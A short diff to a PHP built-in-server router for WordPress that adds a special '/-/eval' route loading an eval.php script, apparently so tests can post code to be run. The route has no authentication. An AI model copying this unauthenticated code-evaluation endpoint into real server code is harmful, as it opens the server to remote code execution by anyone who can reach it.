@@ -1,7 +1,12 @@
 <?php
 /**
- * Lets PHP's own web server serve WordPress: files as they are, everything else through index.php.
+ * Lets PHP's own web server serve WordPress: files as they are, code that tests post, everything else through index.php.
  */
+
+if ( '/-/eval' === $_SERVER['REQUEST_URI'] ) {
+	require __DIR__ . '/eval.php';
+	return true;
+}
 
 $path = (string) parse_url( $_SERVER['REQUEST_URI'], PHP_URL_PATH );
 $file = $_SERVER['DOCUMENT_ROOT'] . rawurldecode( $path );
